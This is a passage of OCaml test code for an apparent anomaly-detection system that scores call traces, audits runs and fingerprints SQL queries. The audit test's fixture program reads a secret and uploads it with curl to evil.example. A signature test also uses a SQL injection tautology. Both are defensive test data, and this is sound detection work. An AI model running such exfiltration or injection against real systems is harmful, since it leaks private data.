          let reference = Detector.reference_classify profile w in
          verdict_eq reference (Scoring.classify engine w)
          (* immediate re-score: a memo hit for cacheable windows *)
          && verdict_eq reference (Scoring.classify engine w))
        windows
      && (* second sweep after the memo churned *)
      List.for_all
        (fun w ->
          verdict_eq
            (Detector.reference_classify profile w)
            (Scoring.classify engine w))
        windows)

let prop_wrapper_matches_reference =
  QCheck2.Test.make
    ~name:"Detector.classify (engine-backed wrapper) = reference_classify"
    ~count:40 ~print:print_case
    QCheck2.Gen.(pair cfg_gen specs_gen)
    (fun ((seed, m, n, (use_labels, track_callers)), specs) ->
      let profile = make_profile ~seed ~m ~n ~use_labels ~track_callers in
      List.for_all
        (fun spec ->
          let w = window_of_spec profile.Profile.alphabet spec in
          verdict_eq
            (Detector.reference_classify profile w)
            (Detector.classify profile w))
        specs)

let prop_extend_invalidates =
  (* an extended engine must agree with the reference on the extended
     profile — no verdict of the old model may survive the extension *)
  QCheck2.Test.make ~name:"post-extend engine = reference on extended profile"
    ~count:15 ~print:print_case
    QCheck2.Gen.(pair cfg_gen specs_gen)
    (fun ((seed, m, n, (_, track_callers)), specs) ->
      let profile =
        make_profile ~seed ~m ~n ~use_labels:true ~track_callers
      in
      let engine = Scoring.create profile in
      let windows = List.map (window_of_spec profile.Profile.alphabet) specs in
      (* warm the memo on the old model *)
      List.iter (fun w -> ignore (Scoring.classify engine w)) windows;
      let growth =
        [
          window_of_spec profile.Profile.alphabet
            (List.init 10 (fun i -> (i, i mod 4)));
          window_of_spec profile.Profile.alphabet
            (List.init 10 (fun i -> (2 * i, (i + 1) mod 4)));
        ]
      in
      let extended = Scoring.extend engine growth in
      let extended_profile = Scoring.profile extended in
      List.for_all
        (fun w ->
          verdict_eq
            (Detector.reference_classify extended_profile w)
            (Scoring.classify extended w))
        windows)

(* --- explainability --------------------------------------------------------- *)

let prop_explain_gate_matches_reference =
  (* explain is Some exactly on anomalous windows, the gate agrees with
     the reference verdict's evidence (priority: unknown symbol, then
     unknown pair, then likelihood), and the margin is non-negative
     exactly when an explanation exists *)
  QCheck2.Test.make ~name:"Scoring.explain: gate = reference evidence, margin >= 0"
    ~count:80 ~print:print_case
    QCheck2.Gen.(pair cfg_gen specs_gen)
    (fun ((seed, m, n, (use_labels, track_callers)), specs) ->
      let profile = make_profile ~seed ~m ~n ~use_labels ~track_callers in
      let engine = Scoring.create profile in
      List.for_all
        (fun spec ->
          let w = window_of_spec profile.Profile.alphabet spec in
          let reference = Detector.reference_classify profile w in
          match Scoring.explain engine w with
          | None -> reference.Detector.flag = Detector.Normal
          | Some e ->
              reference.Detector.flag <> Detector.Normal
              && verdict_eq reference e.Scoring.verdict
              && e.Scoring.exp_threshold = profile.Profile.threshold
              && e.Scoring.margin >= 0.0
              && (match e.Scoring.gate with
                 | Scoring.Unknown_symbol -> reference.Detector.unknown_symbol
                 | Scoring.Unknown_pair p | Scoring.Statically_impossible_pair p ->
                     (not reference.Detector.unknown_symbol)
                     && reference.Detector.unknown_pair = Some p
                 | Scoring.Statically_impossible_window ->
                     (* this engine has no automaton loaded *)
                     false
                 | Scoring.Below_threshold ->
                     (not reference.Detector.unknown_symbol)
                     && reference.Detector.unknown_pair = None
                     && reference.Detector.score < profile.Profile.threshold
                     && e.Scoring.margin > 0.0
                     (* margin = threshold - score: finite unless the
                        window scored -inf (e.g. an empty window) *)
                     && (Float.is_finite e.Scoring.margin
                        || reference.Detector.score = neg_infinity))
              && List.length e.Scoring.top <= 3
              && (let rec descending = function
                    | a :: (b :: _ as rest) ->
                        compare a.Scoring.surprisal b.Scoring.surprisal >= 0
                        && descending rest
                    | _ -> true
                  in
                  descending e.Scoring.top))
        specs)

let prop_stream_explain_last_matches_batch =
  (* after each scored push, the stream's explanation is exactly the
     batch explanation of the window it just classified *)
  QCheck2.Test.make ~name:"Stream.explain_last = explain on the ring window"
    ~count:40 ~print:print_case
    QCheck2.Gen.(pair cfg_gen specs_gen)
    (fun ((seed, m, n, (use_labels, track_callers)), specs) ->
      let profile = make_profile ~seed ~m ~n ~use_labels ~track_callers in
      let engine = Scoring.create profile in
      let explanation_eq a b =
        match (a, b) with
        | None, None -> true
        | Some x, Some y ->
            x.Scoring.gate = y.Scoring.gate
            && verdict_eq x.Scoring.verdict y.Scoring.verdict
            && (x.Scoring.margin = y.Scoring.margin
               || (Float.is_nan x.Scoring.margin && Float.is_nan y.Scoring.margin))
            && x.Scoring.top = y.Scoring.top
        | _ -> false
      in
      List.for_all
        (fun spec ->
          let w = window_of_spec profile.Profile.alphabet spec in
          let window = Array.length w.Window.obs in
          if window = 0 then true
          else begin
            let stream = Scoring.Stream.create ~window engine in
            let events =
              Array.to_list
                (Array.mapi
                   (fun i sym ->
                     {
                       Runtime.Collector.symbol = sym;
                       caller = w.Window.callers.(i);
                       block = i;
                     })
                   w.Window.obs)
            in
            List.iter (fun e -> ignore (Scoring.Stream.push stream e)) events;
            explanation_eq (Scoring.explain engine w)
              (Scoring.Stream.explain_last stream)
          end)
        specs)

(* --- unit tests -------------------------------------------------------------- *)

let fixed_profile () =
  make_profile ~seed:5 ~m:6 ~n:3 ~use_labels:true ~track_callers:true

let known_window profile k =
  window_of_spec profile.Profile.alphabet
    (List.init 4 (fun i -> ((k + i) mod Array.length profile.Profile.alphabet, 0)))

let test_lru_eviction () =
  let profile = fixed_profile () in
  let engine = Scoring.create ~cache_capacity:2 profile in
  Alcotest.(check int) "capacity" 2 (Scoring.cache_capacity engine);
  let w1 = known_window profile 0
  and w2 = known_window profile 1
  and w3 = known_window profile 2 in
  ignore (Scoring.classify engine w1);
  ignore (Scoring.classify engine w1);
  Alcotest.(check int) "one hit" 1 (Scoring.cache_hits engine);
  Alcotest.(check int) "one miss" 1 (Scoring.cache_misses engine);
  ignore (Scoring.classify engine w2);
  ignore (Scoring.classify engine w3);
  Alcotest.(check int) "bounded" 2 (Scoring.cache_len engine);
  (* w1 was evicted (least recently used), so it misses again *)
  ignore (Scoring.classify engine w1);
  Alcotest.(check int) "evicted entry misses" 4 (Scoring.cache_misses engine);
  Alcotest.(check int) "hits unchanged" 1 (Scoring.cache_hits engine)

let test_cache_disabled () =
  let profile = fixed_profile () in
  let engine = Scoring.create ~cache_capacity:0 profile in
  let w = known_window profile 0 in
  let a = Scoring.classify engine w in
  let b = Scoring.classify engine w in
  Alcotest.(check bool) "same verdict" true (verdict_eq a b);
  Alcotest.(check int) "nothing cached" 0 (Scoring.cache_len engine);
  Alcotest.(check int) "no hits" 0 (Scoring.cache_hits engine)

let test_threshold_invalidation () =
  let profile = fixed_profile () in
  let engine = Scoring.create profile in
  let w = known_window profile 0 in
  let v = Scoring.classify engine w in
  Alcotest.(check bool) "finite score" true (Float.is_finite v.Detector.score);
  (* raising the threshold above the score must flip the flag — a stale
     memo entry would keep the old verdict *)
  Scoring.set_threshold engine (v.Detector.score +. 1.0);
  Alcotest.(check int) "memo flushed" 0 (Scoring.cache_len engine);
  let v' = Scoring.classify engine w in
  Alcotest.(check bool) "reflagged under the new threshold" true
    (v'.Detector.flag <> Detector.Normal);
  Alcotest.(check bool) "score unchanged" true
    (v.Detector.score = v'.Detector.score);
  (* setting the same threshold again must not flush *)
  Scoring.set_threshold engine (Scoring.threshold engine);
  Alcotest.(check int) "no-op set keeps the memo" 1 (Scoring.cache_len engine)

let test_unknown_bypasses_memo () =
  let profile = fixed_profile () in
  let engine = Scoring.create profile in
  let alien =
    {
      Window.obs = [| Symbol.lib "alien"; Symbol.observable profile.Profile.alphabet.(0) |];
      callers = [| "c0"; "c0" |];
    }
  in
  let v = Scoring.classify engine alien in
  Alcotest.(check bool) "unknown symbol" true v.Detector.unknown_symbol;
  Alcotest.(check bool) "neg_infinity score" true
    (v.Detector.score = Float.neg_infinity);
  Alcotest.(check int) "not memoized" 0 (Scoring.cache_len engine);
  Alcotest.(check bool) "equal to reference" true
    (verdict_eq (Detector.reference_classify profile alien) v)

let test_empty_window () =
  let profile = fixed_profile () in
  let engine = Scoring.create profile in
  let empty = { Window.obs = [||]; callers = [||] } in
  Alcotest.(check bool) "empty window equals reference" true
    (verdict_eq (Detector.reference_classify profile empty)
       (Scoring.classify engine empty))

let mk_event profile i =
  {
    Runtime.Collector.symbol =
      profile.Profile.alphabet.(i mod Array.length profile.Profile.alphabet);
    caller = Printf.sprintf "c%d" (i mod 4);
    block = i;
  }

let test_stream_matches_monitor () =
  let profile = fixed_profile () in
  let engine = Scoring.create profile in
  let trace = Array.init 40 (mk_event profile) in
  let batch = List.map snd (Scoring.monitor engine trace) in
  let stream = Scoring.Stream.create engine in
  let live = ref [] in
  Array.iter
    (fun e ->
      match Scoring.Stream.push stream e with
      | Ok (Some v) -> live := v :: !live
      | Ok None -> ()
      | Error e -> Alcotest.failf "push rejected: %s" e)
    trace;
  (match Scoring.Stream.flush stream with
  | Some v -> live := v :: !live
  | None -> ());
  let live = List.rev !live in
  Alcotest.(check int) "window count" (List.length batch) (List.length live);
  List.iter2
    (fun b l -> Alcotest.(check bool) "same verdict" true (verdict_eq b l))
    batch live

let test_stream_push_after_flush () =
  let profile = fixed_profile () in
  let stream = Scoring.Stream.create (Scoring.create profile) in
  (match Scoring.Stream.push stream (mk_event profile 0) with
  | Ok _ -> ()
  | Error e -> Alcotest.failf "live push rejected: %s" e);
  ignore (Scoring.Stream.flush stream);
  Alcotest.(check bool) "flushed" true (Scoring.Stream.flushed stream);
  match Scoring.Stream.push stream (mk_event profile 1) with
  | Error _ ->
      Alcotest.(check int) "rejected push not counted" 1
        (Scoring.Stream.events_seen stream)
  | Ok _ -> Alcotest.fail "push after flush must return Error"

let () =
  Alcotest.run "scoring"
    [
      ( "equivalence properties",
        [
          QCheck_alcotest.to_alcotest prop_engine_matches_reference;
          QCheck_alcotest.to_alcotest prop_wrapper_matches_reference;
          QCheck_alcotest.to_alcotest prop_extend_invalidates;
        ] );
      ( "explainability",
        [
          QCheck_alcotest.to_alcotest prop_explain_gate_matches_reference;
          QCheck_alcotest.to_alcotest prop_stream_explain_last_matches_batch;
        ] );
      ( "memo",
        [
          Alcotest.test_case "LRU eviction and counters" `Quick test_lru_eviction;
          Alcotest.test_case "capacity 0 disables caching" `Quick test_cache_disabled;
          Alcotest.test_case "set_threshold flushes the memo" `Quick
            test_threshold_invalidation;
          Alcotest.test_case "unknown symbols bypass the memo" `Quick
            test_unknown_bypasses_memo;
          Alcotest.test_case "empty window" `Quick test_empty_window;
        ] );
      ( "stream",
        [
          Alcotest.test_case "ring matches the batch loop" `Quick
            test_stream_matches_monitor;
          Alcotest.test_case "push after flush is a soft error" `Quick
            test_stream_push_after_flush;
        ] );
    ]

(* Tests for the Sec. VII mitigations and operational extensions:
   SQL canonical printing and query signatures, run-level auditing
   (file labels + shell commands), profile serialization, and the
   adaptive-threshold monitor. *)

module Sql_pp = Sqldb.Sql_pp
module Qsig = Adprom.Qsig
module Audit = Adprom.Audit
module Profile = Adprom.Profile
module Profile_io = Adprom.Profile_io
module Monitor = Adprom.Monitor
module Detector = Adprom.Detector
module Pipeline = Adprom.Pipeline
module Window = Adprom.Window
module Symbol = Analysis.Symbol

(* --- sql printing / signatures --------------------------------------------- *)

let test_sql_pp_roundtrip () =
  let sources =
    [
      "SELECT id, name FROM users WHERE age >= 30 AND NOT name = 'bob' ORDER BY id DESC LIMIT 2";
      "SELECT COUNT(*) FROM t";
      "SELECT SUM(amount) FROM t WHERE kind = 'x'";
      "SELECT AVG(total) FROM sales";
      "INSERT INTO t (a, b) VALUES (1, 'x'), (2, NULL)";
      "UPDATE t SET a = 3, b = 'y' WHERE a < 9 OR b LIKE '%q%'";
      "DELETE FROM t WHERE NOT (a = 1 AND b = 2)";
      "CREATE TABLE t (a, b, c)";
    ]
  in
  List.iter
    (fun src ->
      let stmt = Sqldb.Sql_parser.parse src in
      let printed = Sql_pp.to_string stmt in
      let reparsed = Sqldb.Sql_parser.parse printed in
      Alcotest.(check string)
        (Printf.sprintf "stable rendering of %S" src)
        printed
        (Sql_pp.to_string reparsed))
    sources

let test_sql_signature_erases_literals () =
  let sig_of sql = Option.get (Sql_pp.signature_of_sql sql) in
  Alcotest.(check string) "same structure, same signature"
    (sig_of "SELECT * FROM clients WHERE id = '105'")
    (sig_of "SELECT * FROM clients WHERE id = '999'");
  Alcotest.(check bool) "tautology changes the signature" true
    (sig_of "SELECT * FROM clients WHERE id = '105'"
    <> sig_of "SELECT * FROM clients WHERE id = '1' OR '1' = '1'");
  Alcotest.(check bool) "unparseable is None" true
    (Sql_pp.signature_of_sql "DROP EVERYTHING" = None)

let test_qsig_profile () =
  let q = Qsig.of_runs [ [ "SELECT * FROM t WHERE a = 1" ]; [ "SELECT COUNT(*) FROM t" ] ] in
  Alcotest.(check int) "two signatures learned" 2 (Qsig.cardinality q);
  Alcotest.(check bool) "constant change stays known" true
    (Qsig.known q "SELECT * FROM t WHERE a = 42");
  Alcotest.(check bool) "structural change is unknown" false
    (Qsig.known q "SELECT * FROM t WHERE a = 1 OR a = 2");
  Alcotest.(check int) "unknown_in_run dedups" 1
    (List.length
       (Qsig.unknown_in_run q
          [ "SELECT * FROM t WHERE a = 1 OR a = 2"; "SELECT * FROM t WHERE a = 9 OR a = 3" ]))

(* --- audit ------------------------------------------------------------------ *)

let exfil_source =
  {|
    fun main() {
      let conn = db_connect("pg");
      let r = pq_exec(conn, "SELECT name FROM secrets WHERE id = 1");
      let f = fopen("/tmp/stash.txt", "w");
      fprintf(f, "%s", pq_getvalue(r, 0, 0));
      fclose(f);
      system("curl --upload-file /tmp/stash.txt http://evil.example");
    }
  |}

let run_exfil () =
  let analysis = Analysis.Analyzer.analyze (Applang.Parser.parse_program exfil_source) in
  let engine = Sqldb.Engine.create () in
  ignore (Sqldb.Engine.exec engine "CREATE TABLE secrets (id, name)");
  ignore (Sqldb.Engine.exec engine "INSERT INTO secrets VALUES (1, 'formula')");
  snd (Runtime.Interp.collect_trace ~analysis ~engine (Runtime.Testcase.make "t"))

let test_outcome_tracks_queries_and_files () =
  let out = run_exfil () in
  Alcotest.(check (list string)) "queries recorded"
    [ "SELECT name FROM secrets WHERE id = 1" ]
    out.Runtime.Interp.queries;
  Alcotest.(check (list string)) "stash file labeled" [ "/tmp/stash.txt" ]
    out.Runtime.Interp.tainted_files

let test_audit_findings () =
  let out = run_exfil () in
  (* Training knew a different query shape and no file exfiltration. *)
  let qsig = Qsig.of_runs [ [ "SELECT COUNT(*) FROM secrets" ] ] in
  let findings = Audit.audit ~qsig out in
  let has_query =
    List.exists (function Audit.Unknown_query_signature _ -> true | _ -> false) findings
  in
  let has_file =
    List.exists
      (function
        | Audit.Tainted_file_command { path; _ } -> path = "/tmp/stash.txt"
        | _ -> false)
      findings
  in
  Alcotest.(check bool) "unknown signature reported" true has_query;
  Alcotest.(check bool) "file exfiltration reported" true has_file;
  (* With the signature learned and no shell touch, nothing fires. *)
  let qsig' = Audit.learn [ out ] in
  let quiet = { out with Runtime.Interp.system_calls = [ "ls /" ] } in
  Alcotest.(check int) "clean run has no findings" 0 (List.length (Audit.audit ~qsig:qsig' quiet))

(* --- profile serialization ---------------------------------------------------- *)

let small_profile =
  lazy
    (let app =
       {
         Pipeline.name = "ser";
         source =
           {|
             fun main() {
               let r = pq_exec(db_connect("pg"), "SELECT name FROM t");
               let n = pq_ntuples(r);
               for (let i = 0; i < n; i = i + 1) { printf("%s\n", pq_getvalue(r, i, 0)); }
             }
           |};
         dbms = "PostgreSQL";
         setup_db =
           (fun e ->
             ignore (Sqldb.Engine.exec e "CREATE TABLE t (name)");
             ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES ('a'), ('b')"));
         test_cases = List.init 6 (fun i -> Runtime.Testcase.make (Printf.sprintf "c%d" i));
       }
     in
     let ds = Pipeline.collect app in
     (ds, Pipeline.train ds))

let test_profile_io_roundtrip () =
  let ds, profile = Lazy.force small_profile in
  let text = Profile_io.to_string profile in
  match Profile_io.of_string text with
  | Error msg -> Alcotest.failf "parse failed: %s" msg
  | Ok profile' ->
      Alcotest.(check (float 1e-12)) "threshold preserved" profile.Profile.threshold
        profile'.Profile.threshold;
      Alcotest.(check int) "alphabet preserved"
        (Array.length profile.Profile.alphabet)
        (Array.length profile'.Profile.alphabet);
      (* Detection behaviour identical on every training window. *)
      List.iter
        (fun w ->
          let v = Detector.classify profile w and v' = Detector.classify profile' w in
          Alcotest.(check bool) "same flag" true (v.Detector.flag = v'.Detector.flag);
          Alcotest.(check (float 1e-6)) "same score" v.Detector.score v'.Detector.score)
        ds.Pipeline.windows

let test_profile_io_rejects_garbage () =
  Alcotest.(check bool) "bad magic" true
    (match Profile_io.of_string "nonsense" with Error _ -> true | Ok _ -> false);
  let _, profile = Lazy.force small_profile in
  let text = Profile_io.to_string profile in
  let truncated = String.sub text 0 (String.length text / 2) in
  Alcotest.(check bool) "truncation detected" true
    (match Profile_io.of_string truncated with Error _ -> true | Ok _ -> false)

let test_profile_io_file_roundtrip () =
  let _, profile = Lazy.force small_profile in
  let path = Filename.temp_file "adprom" ".profile" in
  Profile_io.save profile path;
  (match Profile_io.load path with
  | Ok p -> Alcotest.(check (float 1e-12)) "load" profile.Profile.threshold p.Profile.threshold
  | Error msg -> Alcotest.failf "load failed: %s" msg);
  Sys.remove path;
  Alcotest.(check bool) "missing file is an error" true
    (match Profile_io.load path with Error _ -> true | Ok _ -> false)

(* --- incremental retraining (Profile.extend) -------------------------------- *)

let test_profile_extend () =
  let ds, profile = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  let extended = Profile.extend profile [ w; w; w ] in
  Alcotest.(check bool) "threshold never rises" true
    (extended.Profile.threshold <= profile.Profile.threshold +. 1e-12);
  (* New (caller, call) pairs become known. *)
  let drifted =
    { Adprom.Window.obs = Array.copy w.Adprom.Window.obs;
      callers = Array.map (fun _ -> "new_helper") w.Adprom.Window.callers }
  in
  let before = Detector.classify profile drifted in
  Alcotest.(check bool) "unknown pair before" true
    (before.Detector.unknown_pair <> None);
  let extended = Profile.extend profile [ drifted ] in
  let after = Detector.classify extended drifted in
  Alcotest.(check bool) "pair known after extend" true
    (after.Detector.unknown_pair = None);
  (* Windows with unseen symbols are ignored, not learned. *)
  let evil =
    { Adprom.Window.obs = Array.map (fun _ -> Symbol.lib "evil_call") w.Adprom.Window.obs;
      callers = Array.copy w.Adprom.Window.callers }
  in
  let unchanged = Profile.extend profile [ evil ] in
  Alcotest.(check bool) "attack windows not absorbed" true
    ((Detector.classify unchanged evil).Detector.flag <> Detector.Normal)

(* --- adaptive monitor ----------------------------------------------------------- *)

let test_monitor_counts () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create profile in
  let ds, _ = Lazy.force small_profile in
  List.iter (fun w -> ignore (Monitor.classify monitor w)) ds.Pipeline.windows;
  Alcotest.(check int) "all windows accounted" (List.length ds.Pipeline.windows)
    (Monitor.windows_seen monitor);
  Alcotest.(check int) "no alarms on training data" 0 (Monitor.alarms_raised monitor)

let test_monitor_adapts_down () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create ~target_fp_rate:0.01 ~adjust_every:10 profile in
  let t0 = Monitor.threshold monitor in
  let ds, _ = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  (* The admin keeps reporting false alarms: the threshold must drop. *)
  for _ = 1 to 10 do
    ignore (Monitor.classify monitor w);
    Monitor.report_false_positive monitor
  done;
  Alcotest.(check bool) "threshold lowered" true (Monitor.threshold monitor < t0)

let test_monitor_adapts_up () =
  let _, profile = Lazy.force small_profile in
  let monitor = Monitor.create ~target_fp_rate:0.5 ~adjust_every:10 profile in
  let t0 = Monitor.threshold monitor in
  let ds, _ = Lazy.force small_profile in
  let w = List.hd ds.Pipeline.windows in
  for _ = 1 to 10 do
    ignore (Monitor.classify monitor w)
  done;
  Alcotest.(check bool) "quiet period raises the threshold" true
    (Monitor.threshold monitor > t0)

(* --- multi-session monitoring ------------------------------------------------ *)

let mk_trace names =
  Array.of_list
    (List.map
       (fun n -> { Runtime.Collector.symbol = Symbol.lib n; caller = "main"; block = -1 })
       names)

let test_sessions_roundtrip () =
  let a = mk_trace [ "a1"; "a2"; "a3" ] and b = mk_trace [ "b1"; "b2" ] in
  let rng = Mlkit.Rng.create 3 in
  let host = Adprom.Sessions.interleave ~rng [ a; b ] in
  Alcotest.(check int) "all events present" 5 (Array.length host);
  (match Adprom.Sessions.demux host with
  | [ (0, a'); (1, b') ] ->
      Alcotest.(check bool) "session 0 recovered" true (a' = a);
      Alcotest.(check bool) "session 1 recovered" true (b' = b)
  | _ -> Alcotest.fail "expected two sessions");
  (* per-session order is preserved inside the host stream *)
  let order_of session =
    Array.to_list host
    |> List.filter (fun (t : Adprom.Sessions.tagged) -> t.Adprom.Sessions.session = session)
    |> List.map (fun (t : Adprom.Sessions.tagged) ->
           Symbol.name t.Adprom.Sessions.event.Runtime.Collector.symbol)
  in
  Alcotest.(check (list string)) "order preserved" [ "a1"; "a2"; "a3" ] (order_of 0)

let test_sessions_windowing () =
  let a = mk_trace [ "a"; "a"; "a"; "a" ] and b = mk_trace [ "b"; "b"; "b"; "b" ] in
  let rng = Mlkit.Rng.create 5 in
  let host = Adprom.Sessions.interleave ~rng [ a; b ] in
  let naive = Adprom.Sessions.windows_naive ~window:3 host in
  let per_session = Adprom.Sessions.windows_per_session ~window:3 host in
  Alcotest.(check int) "naive window count" 6 (List.length naive);
  Alcotest.(check int) "per-session window count" 4 (List.length per_session);
  (* per-session windows never mix symbols *)
  List.iter
    (fun (w : Adprom.Window.t) ->
      let names = Array.map Symbol.name w.Adprom.Window.obs in
      Alcotest.(check bool) "homogeneous" true
        (Array.for_all (( = ) names.(0)) names))
    per_session;
  (* the interleaving mixed at least one naive window *)
  Alcotest.(check bool) "naive mixes sessions" true
    (List.exists
       (fun (w : Adprom.Window.t) ->
         let names = Array.map Symbol.name w.Adprom.Window.obs in
         not (Array.for_all (( = ) names.(0)) names))
       naive)

(* --- trace persistence --------------------------------------------------------- *)

let test_trace_io_roundtrip () =
  let trace =
    [|
      { Runtime.Collector.symbol = Symbol.lib "printf"; caller = "main"; block = 4 };
      { Runtime.Collector.symbol = Symbol.lib ~label:6 ~site:6 "printf"; caller = "f"; block = 6 };
      { Runtime.Collector.symbol = Symbol.Func "helper"; caller = "main"; block = -1 };
    |]
  in
  let text = Runtime.Trace_io.to_string trace in
  (match Runtime.Trace_io.of_string text with
  | Ok trace' -> Alcotest.(check bool) "round trip" true (trace = trace')
  | Error e -> Alcotest.failf "parse failed: %s" e);
  (match Runtime.Trace_io.of_string "garbage line" with
  | Error _ -> ()
  | Ok _ -> Alcotest.fail "garbage accepted");
  let path = Filename.temp_file "adprom" ".trace" in
  Runtime.Trace_io.save trace path;
  (match Runtime.Trace_io.load path with
  | Ok trace' -> Alcotest.(check bool) "file round trip" true (trace = trace')
  | Error e -> Alcotest.failf "load failed: %s" e);
  Sys.remove path

let test_trace_io_feeds_training () =
  (* A trace that went through disk trains the same windows. *)
  let ds, _ = Lazy.force small_profile in
  let _, trace0 = (List.hd ds.Pipeline.traces : Runtime.Testcase.t * Runtime.Collector.trace) in
  match Runtime.Trace_io.of_string (Runtime.Trace_io.to_string trace0) with
  | Ok trace ->
      Alcotest.(check int) "same windows"
        (List.length (Window.of_trace trace0))
        (List.length (Window.of_trace trace))
  | Error e -> Alcotest.failf "round trip failed: %s" e

let () =
  Alcotest.run "extensions"
    [
      ( "query signatures",
        [
          Alcotest.test_case "sql printing is stable" `Quick test_sql_pp_roundtrip;
          Alcotest.test_case "signatures erase literals" `Quick test_sql_signature_erases_literals;
          Alcotest.test_case "qsig profile" `Quick test_qsig_profile;
        ] );
      ( "audit",
        [
          Alcotest.test_case "outcome tracks queries and labeled files" `Quick
            test_outcome_tracks_queries_and_files;
          Alcotest.test_case "audit findings" `Quick test_audit_findings;
        ] );
      ( "profile io",
        [
          Alcotest.test_case "round trip preserves detection" `Quick test_profile_io_roundtrip;
          Alcotest.test_case "rejects garbage" `Quick test_profile_io_rejects_garbage;
          Alcotest.test_case "file round trip" `Quick test_profile_io_file_roundtrip;
        ] );
      ( "incremental retraining",
        [ Alcotest.test_case "extend widens the profile safely" `Quick test_profile_extend ] );
      ( "multi-session",
        [
          Alcotest.test_case "interleave/demux round trip" `Quick test_sessions_roundtrip;
          Alcotest.test_case "windowing disciplines" `Quick test_sessions_windowing;
        ] );
      ( "trace io",
        [
          Alcotest.test_case "round trip" `Quick test_trace_io_roundtrip;
          Alcotest.test_case "feeds training" `Quick test_trace_io_feeds_training;
        ] );
      ( "adaptive monitor",
        [
          Alcotest.test_case "accounting" `Quick test_monitor_counts;
          Alcotest.test_case "adapts down on false alarms" `Quick test_monitor_adapts_down;
          Alcotest.test_case "adapts up when quiet" `Quick test_monitor_adapts_up;
        ] );
    ]

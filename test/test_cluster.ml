(* Tests for the binary wire protocol and the scale-out tier: QCheck2
   round-trips of frames under adversarial TCP chunking, totality of the
   decoder on truncated/corrupted bytes, consistent-hash ring
   properties, the negative-row-count regression, and a forked 2-node
   cluster whose merged verdicts must be bit-for-bit the single-node
   replay's. *)

module Codec = Adprom_service.Codec
module Transport = Adprom_service.Transport
module Frame = Adprom_service.Frame
module Server = Adprom_service.Server
module Cluster = Adprom_service.Cluster
module Daemon = Adprom_service.Daemon
module Replay = Adprom_service.Replay
module Alerts = Adprom_service.Alerts
module Detector = Adprom.Detector
module Pipeline = Adprom.Pipeline
module Sessions = Adprom.Sessions
module Symbol = Analysis.Symbol

let contains ~needle hay =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else begin
    let found = ref false in
    for i = 0 to hl - nl do
      if (not !found) && String.sub hay i nl = needle then found := true
    done;
    !found
  end

(* --- generators ------------------------------------------------------------ *)

let gen_pool = [ "read"; "printf"; "pq_exec"; "pq_getvalue"; "helper"; "x" ]

let gen_symbol =
  QCheck2.Gen.(
    oneof
      [
        return Symbol.Entry;
        return Symbol.Exit;
        map (fun n -> Symbol.Func n) (oneofl gen_pool);
        map3
          (fun n label site -> Symbol.Lib { name = n; label; site })
          (oneofl gen_pool) (opt (int_range 0 50)) (opt (int_range 0 50));
      ])

let gen_event =
  QCheck2.Gen.(
    map3
      (fun session caller (block, symbol) ->
        Transport.Call
          { Transport.session; event = { Runtime.Collector.caller; block; symbol } })
      (int_range 0 200) (oneofl gen_pool)
      (pair (int_range (-1) 40) gen_symbol))

(* arbitrary bytes in the sql — tabs, newlines, NULs: the binary frames
   must carry anything *)
let gen_sql =
  QCheck2.Gen.(string_size ~gen:(map Char.chr (int_range 0 255)) (int_range 0 30))

let gen_query =
  QCheck2.Gen.(
    map3
      (fun q_session rows sql -> Transport.Query { Transport.q_session; rows; sql })
      (int_range 0 200) (int_range 0 1000) gen_sql)

let gen_items =
  QCheck2.Gen.(
    list_size (int_range 0 120)
      (frequency [ (4, gen_event); (1, gen_query) ]))

let encode_items items =
  Transport.encode_all (module Frame.T) (Array.of_list items)

(* --- binary round-trip under chunked reads --------------------------------- *)

let prop_binary_roundtrip_chunked =
  QCheck2.Test.make
    ~name:"binary frames round-trip under arbitrary TCP chunking" ~count:300
    QCheck2.Gen.(pair gen_items (list_size (int_range 0 40) (int_range 1 13)))
    (fun (items, cuts) ->
      let bytes = encode_items items in
      let dec = Frame.T.decoder () in
      let n = String.length bytes in
      let rec go pos cs acc =
        if pos >= n then acc
        else begin
          let len =
            match cs with [] -> n - pos | c :: _ -> min c (n - pos)
          in
          let cs = match cs with [] -> [] | _ :: t -> t in
          match Frame.T.feed dec ~pos ~len bytes with
          | Ok got -> go (pos + len) cs (acc @ got)
          | Error e -> QCheck2.Test.fail_reportf "feed error: %s" e
        end
      in
      let got = go 0 cuts [] in
      let got =
        got
        @
        match Frame.T.finish dec with
        | Ok rest -> rest
        | Error e -> QCheck2.Test.fail_reportf "finish error: %s" e
      in
      got = items)

(* --- totality: truncation and corruption never raise ------------------------ *)

let prop_truncated_never_raises =
  QCheck2.Test.make ~name:"truncated binary streams fail cleanly" ~count:300
    QCheck2.Gen.(pair gen_items (int_range 0 1_000_000))
    (fun (items, cut) ->
      let bytes = encode_items items in
      let cut = if String.length bytes = 0 then 0 else cut mod String.length bytes in
      let prefix = String.sub bytes 0 cut in
      match Transport.decode_all (module Frame.T) prefix with
      | Ok got ->
          (* a cut on a frame boundary yields a prefix of the items *)
          let got = Array.to_list got in
          let rec is_prefix a b =
            match (a, b) with
            | [], _ -> true
            | x :: a', y :: b' -> x = y && is_prefix a' b'
            | _ -> false
          in
          is_prefix got items
      | Error _ -> true)

let prop_corrupt_never_raises =
  QCheck2.Test.make ~name:"corrupted binary bytes never raise" ~count:500
    QCheck2.Gen.(
      triple gen_items (int_range 0 1_000_000) (int_range 0 255))
    (fun (items, pos, byte) ->
      let bytes = encode_items items in
      if String.length bytes = 0 then true
      else begin
        let pos = pos mod String.length bytes in
        let b = Bytes.of_string bytes in
        Bytes.set b pos (Char.chr byte);
        match Transport.decode_all (module Frame.T) (Bytes.to_string b) with
        | Ok _ | Error _ -> true
      end)

(* --- control frames --------------------------------------------------------- *)

let roundtrip_frame f =
  let enc = Frame.Encoder.create () in
  let buf = Buffer.create 256 in
  Frame.Encoder.add enc buf f;
  Frame.Encoder.flush enc buf;
  let dec = Frame.Decoder.create () in
  match Frame.Decoder.feed dec (Buffer.contents buf) with
  | Error e -> Alcotest.failf "decode: %s" (Frame.error_to_string e)
  | Ok [ f' ] ->
      Alcotest.(check bool)
        (Printf.sprintf "%s frame round-trips" (Frame.frame_name f))
        true (f = f')
  | Ok fs -> Alcotest.failf "expected one frame, got %d" (List.length fs)

let test_control_frames () =
  roundtrip_frame (Frame.Hello { version = 1; peer = "router"; sample = None });
  roundtrip_frame
